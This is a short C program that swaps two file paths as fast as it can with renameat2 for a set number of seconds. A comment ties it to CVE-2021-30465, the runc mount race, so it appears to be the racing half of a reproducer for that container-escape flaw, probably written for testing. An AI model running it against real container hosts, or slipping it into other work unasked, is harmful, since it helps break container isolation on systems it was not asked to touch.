/* flip ONE OTHER SECONDS: swaps two names as fast as it can (CVE-2021-30465). */
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <fcntl.h>

int main(int argc, char **argv) {
  if (argc != 4) return 2;
  time_t end = time(NULL) + atoi(argv[3]);
  long times = 0;
  puts("ready");
  fflush(stdout);
  while (time(NULL) < end) {
    if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) return perror("renameat2"), 1;
    times++;
  }
  printf("swapped %ld\n", times);
  return 0;
}
